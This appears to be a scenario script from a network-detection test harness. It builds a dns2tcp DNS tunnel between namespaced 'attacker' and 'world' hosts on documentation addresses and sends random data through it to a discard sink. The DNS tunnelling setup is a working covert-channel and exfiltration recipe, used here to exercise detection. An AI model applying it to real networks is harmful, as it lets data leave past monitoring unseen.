# shellcheck shell=bash
# about: a TCP connection in DNS, through the resolver (dns2tcp)
# type: attack
# kind: dns_tunnel
# target: attacker dns 203.0.113.53
# source: attacker
# tools: dns2tcpc dns2tcpd ncat socat dnsmasq
# within_ms: 15000
# packets: 200
play() {
	cat >"$WORK/dns2tcpd.conf" <<-END
		listen = $TUNNEL_IP
		port = 53
		user = nobody
		chroot = /tmp
		domain = tunnel.test
		key = secret
		resources = sink:203.0.113.99:9000
	END
	in_space world dns2tcpd -F -f "$WORK/dns2tcpd.conf" &
	started
	in_space world socat -u TCP-LISTEN:9000,bind=203.0.113.99,fork OPEN:/dev/null &
	started
	in_space attacker dns2tcpc -z tunnel.test -k secret -r sink -l 2222 "$DNS_IP" &
	started
	sleep 2
	{ head -c 200000 /dev/urandom && sleep 12; } | on attacker timeout 15 ncat --send-only 127.0.0.1 2222
}
